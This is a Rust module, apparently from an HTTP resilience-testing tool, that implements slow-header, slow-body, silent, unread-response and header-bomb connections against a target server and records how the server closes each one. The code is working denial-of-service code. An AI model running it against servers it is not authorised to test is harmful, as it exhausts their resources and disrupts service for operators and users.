//! Hostile HTTP/1.1: heads and bodies that do not end, downloads that are not read, and heads that are too large.

use std::io;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, Interest},
    net::TcpStream,
    time::interval,
};

use super::{
    attack::Attack,
    ending::{Ending, How},
};
use crate::websocket::Duplex;

/// The longest answer that is looked at.
const MOST_ANSWER: usize = 4096;
/// Of a head that is too large.
const BOMB: usize = 1024 * 1024;
const BLOCK: usize = 16 * 1024;

/// A field at a time.
pub(super) async fn slow_headers(attack: &Attack, mut stream: impl Duplex) -> Ending {
    let head = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", attack.path, attack.host);
    if stream.write_all(head.as_bytes()).await.is_err() {
        return How::Closed.into();
    }
    let mut clock = interval(attack.drip);
    let mut answer = Vec::new();
    loop {
        tokio::select! {
            read = read(&mut stream, &mut answer) => if read.is_none() { return closed(&answer) },
            _ = clock.tick() => if stream.write_all(b"X-Slow: y\r\n").await.is_err() { return closed(&answer) },
        }
    }
}

/// A first byte, and no second.
pub(super) async fn slow_body(attack: &Attack, mut stream: impl Duplex) -> Ending {
    let head = format!("POST {} HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\nx", attack.path, attack.host);
    if stream.write_all(head.as_bytes()).await.is_err() {
        return How::Closed.into();
    }
    end_of(stream).await
}

/// Nothing at all.
pub(super) async fn silent(stream: impl Duplex) -> Ending {
    end_of(stream).await
}

/// A request whose answer is not read; a reset is noticed all the same.
pub(super) async fn slow_reader(attack: &Attack, mut stream: TcpStream) -> Ending {
    if ask(attack, &mut stream).await.is_err() {
        return How::Closed.into();
    }
    loop {
        match stream.ready(Interest::ERROR).await {
            Ok(ready) if ready.is_error() || ready.is_write_closed() => return How::Closed.into(),
            Ok(_) => tokio::time::sleep(attack.drip).await,
            Err(_) => return How::Closed.into(),
        }
    }
}

/// The same over TLS, where nothing is noticed without reading.
pub(super) async fn deaf(attack: &Attack, mut stream: impl Duplex) -> Ending {
    if ask(attack, &mut stream).await.is_err() {
        return How::Closed.into();
    }
    std::future::pending().await
}

/// A head that is too large for anybody.
pub(super) async fn header_bomb(attack: &Attack, mut stream: impl Duplex) -> Ending {
    let head = format!("GET {} HTTP/1.1\r\nHost: {}\r\n", attack.path, attack.host);
    let block = "X-Bomb: yyyyyyyyyyyyyyyyyyyyy\r\n".repeat(BLOCK / 31);
    let mut sent = stream.write_all(head.as_bytes()).await;
    for _ in 0..BOMB / BLOCK {
        if sent.is_ok() {
            sent = stream.write_all(block.as_bytes()).await;
        }
    }
    // Whether all of it was taken or not: an answer may be there.
    end_of(stream).await
}

async fn ask(attack: &Attack, stream: &mut (impl Duplex + ?Sized)) -> io::Result<()> {
    let head = format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", attack.path, attack.host);
    stream.write_all(head.as_bytes()).await
}

async fn end_of(mut stream: impl Duplex) -> Ending {
    let mut answer = Vec::new();
    while read(&mut stream, &mut answer).await.is_some() {}
    closed(&answer)
}

/// `None` at the end of the connection. What is over the limit is thrown away.
async fn read(stream: &mut impl Duplex, answer: &mut Vec<u8>) -> Option<()> {
    let mut bytes = [0; 1024];
    let read = stream.read(&mut bytes).await.ok().filter(|read| *read > 0)?;
    let room = MOST_ANSWER.saturating_sub(answer.len()).min(read);
    answer.extend_from_slice(&bytes[..room]);
    Some(())
}

fn closed(answer: &[u8]) -> Ending {
    let text = String::from_utf8_lossy(answer);
    let status = text.split(' ').nth(1).and_then(|status| status.parse().ok());
    Ending { how: How::Closed, status, resets: 0 }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn status_is_that_of_the_answer() {
        assert_eq!(closed(b"HTTP/1.1 408 Request Timeout\r\n").status, Some(408));
        assert_eq!(closed(b"").status, None);
    }
}
